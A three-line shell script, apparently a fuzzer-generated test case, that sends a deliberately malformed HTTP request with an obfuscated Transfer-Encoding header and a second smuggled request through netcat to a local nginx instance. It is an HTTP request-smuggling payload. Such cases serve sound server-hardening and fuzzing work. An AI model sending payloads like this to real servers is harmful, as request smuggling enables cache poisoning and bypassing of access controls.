#!/bin/sh
# desync/field-name-invalid/smuggled-request via header.insert-transfer-encoding+stream.duplicate against nginx
printf 'T / HTTP/1.1\r\n\240chunked\nHost:}\n\nG / HTTP/1.1\nHost: {\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
